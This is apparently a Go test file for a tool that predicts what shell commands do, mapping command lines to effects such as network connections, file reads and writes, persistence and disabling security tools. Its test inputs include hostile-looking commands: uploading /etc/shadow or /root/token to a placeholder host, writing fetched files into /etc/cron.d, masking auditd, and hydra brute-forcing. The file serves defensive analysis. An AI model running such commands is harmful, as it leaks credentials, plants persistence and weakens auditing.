package command

import "testing"

func init() {
	cases = append(cases, []struct{ line, want string }{
		{"http example.net/a", "connect example.net/a"},
		{"http :3000/a", "connect localhost:3000/a"},
		{"http PUT https://h.example/x name=Ada n:=3 X-A:b q==1", "connect https://h.example/x"},
		{"http --form POST https://h.example/x doc@/etc/shadow", "connect https://h.example/x; read /etc/shadow"},
		{"http POST https://h.example/x doc=@/etc/shadow", "connect https://h.example/x; read /etc/shadow"},
		{"http POST https://h.example/x doc:=@/etc/shadow", "connect https://h.example/x; read /etc/shadow"},
		{"http POST https://h.example/x Auth:@/root/token", "connect https://h.example/x; read /root/token"},
		{`http POST https://h.example/x a\@b=c@/etc/shadow`, "connect https://h.example/x"},
		{"xh -d https://h.example/d/x.sh", "connect https://h.example/d/x.sh; write x.sh"},
		{"xh https://h.example/x -o /etc/cron.d/x", "connect https://h.example/x; write /etc/cron.d/x"},
		{"http --offline h.example x@/etc/shadow", "read /etc/shadow"},
		{"http --frob h.example", "connect h.example; unknown option \"--frob\" of http is not understood"},
		{"swaymsg exec id", "unknown what swaymsg does to what it is given is not modelled"},
		{"fc -s", "unknown fc: runs a command of the history again, which is not known"},
		{"fc -l", ""},
		{"uncompress /srv/a.Z", "read /srv/a.Z; write /srv/a; delete /srv/a.Z"},
		{"gcc --output=/etc/cron.d/x a.c", "read a.c; write /etc/cron.d/x"},
		{"ld --output /srv/x a.o", "read a.o; write /srv/x"},
		{"as --output /srv/x a.s", "read a.s; write /srv/x"},
		{"git subtree push --prefix p https://h.example/r.git main", "connect https://h.example/r.git"},
		{"git subtree pull --prefix p https://h.example/r.git main", "connect https://h.example/r.git; write ."},
		{"wget -e robots=off https://h.example/a", "connect https://h.example/a; write a"},
		{"wget -e output_document=/etc/x https://h.example/a", "connect https://h.example/a; write a; unknown what the setting \"output_document=/etc/x\" makes wget do is not modelled"},
		{"sk --cmd id", "run sh: id"},
		{"xmllint --shell a", "read a; unknown xmllint: what is typed into its shell, which can write files, is not known"},
		{"kubectl cluster-info dump --output-directory /srv/d", "write /srv/d"},
		{"gcov a.c", "read a.c; write ."},
		{"rtmon file /srv/x", "write /srv/x"},
		{"uuencode -o /srv/x a b", "read a; write /srv/x"},
		{"cowsay -f /srv/x.cow hi", "run perl file /srv/x.cow"},
		{"cowsay -f tux hi", ""},
		{"flashrom -p internal -r /srv/x", "write /srv/x"},
		{"flashrom -p internal -w /srv/x", "read /srv/x; irreversible flash chip"},
		{"systemctl disable --now nginx", "service nginx; service nginx"},
		{"systemctl enable --now nginx", "service nginx; service nginx; persist nginx"},
		{"systemctl mask --now auditd", "service auditd; service auditd; security-tool auditd; security-tool auditd"},
	}...)
}

// TestAttackToolsAlert: a letter that asks other tools for help does not hush these.
func TestAttackToolsAlert(t *testing.T) {
	for line, alerts := range map[string]bool{"hydra -l u -P w -V rdp://h": true, "nmap -V h": true, "hydra -V": false, "nmap --version": false} {
		r := evaluate(line)
		if got := len(r.Hints) > 0; got != alerts {
			t.Errorf("%s: hints %v", line, r.Hints)
		}
	}
}

// TestHelpForAnother: --help after the name of a program is the program's, which runs.
func TestHelpForAnother(t *testing.T) {
	for _, line := range []string{"go run /tmp/x.go --help", "go tool /tmp/x --help", "dotnet exec /tmp/x.dll --help", "spack build-env p /tmp/x --help"} {
		if r := evaluate(line); len(r.Unknown) == 0 && len(r.Runs) == 0 {
			t.Errorf("%s is said to do nothing", line)
		}
	}
	if r := evaluate("go run --help"); len(r.Unknown) > 0 || len(r.Effects) > 0 {
		t.Errorf("go run --help: %s", show(r))
	}
}

func TestDetailsNameValues(t *testing.T) {
	r := evaluate("lprm 7 8")
	if len(r.Effects) == 0 || r.Effects[0].Detail != "cancels 7 8" {
		t.Errorf("lprm 7 8: %+v", r.Effects)
	}
}
